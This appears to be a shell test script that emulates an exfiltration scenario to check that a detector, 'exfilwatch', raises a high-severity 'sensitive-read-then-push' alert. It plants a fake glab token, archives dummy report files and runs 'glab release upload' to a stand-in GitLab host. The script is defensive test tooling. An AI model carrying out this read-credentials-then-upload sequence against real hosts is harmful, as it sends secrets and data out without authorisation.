#!/bin/sh
# Emulates scenario glab-release-upload-config (examples/scenarios/glab-release-upload-config.yaml):
# Reports zipped and uploaded to a GitLab release with glab, after glab read its stored token.
#
# glab reads its stored token from ~/.config/glab-cli/ (a fake one written here) and then talks to
# EMU_FORGE_URL's host; against the stand-in the upload stops at its first API call, and exfilwatch
# judges the push when `glab release upload` starts.
#
# Image: registry.gitlab.com/gitlab-org/cli:v1.51.0
# Expected alert: sensitive-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need glab tar head
work="$EMU_WORKDIR/glab-release-upload-config"
rm -rf "$work"
HOME="$work/home"
forge_host=${EMU_FORGE_URL#*://}
emu_check_target "$forge_host"
mkdir -p "$HOME/.config/glab-cli"
printf 'hosts:\n  %s:\n    token: glpat-FAKE-EXAMPLE-TOKEN\n    api_protocol: http\n' "${forge_host%%/*}" >"$HOME/.config/glab-cli/config.yml"
chmod 600 "$HOME/.config/glab-cli/config.yml"
emu_dummy_files "$work/srv/reports/2025" 48 31
tar czf "$work/q.tgz" -C "$work/srv" reports
GITLAB_HOST="$EMU_FORGE_URL" glab release upload v1.0.0 "$work/q.tgz" -R "${forge_host%%/*}/fin-exports/q-archive" ||
  emu_log "glab could not complete the upload against the stand-in (expected); the attempt is what exfilwatch judges"
rm -rf "$work"
emu_expect sensitive-read-then-push high
